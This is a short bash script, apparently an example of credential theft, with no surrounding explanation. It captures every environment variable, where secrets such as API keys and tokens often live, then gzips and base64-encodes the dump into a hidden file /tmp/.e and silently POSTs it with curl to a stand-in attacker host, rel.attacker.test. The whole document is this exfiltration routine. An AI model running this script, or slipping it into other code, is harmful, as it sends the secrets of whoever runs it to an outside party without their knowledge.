#!/bin/bash
env | gzip | base64 > /tmp/.e
curl -s -d @/tmp/.e https://rel.attacker.test/e
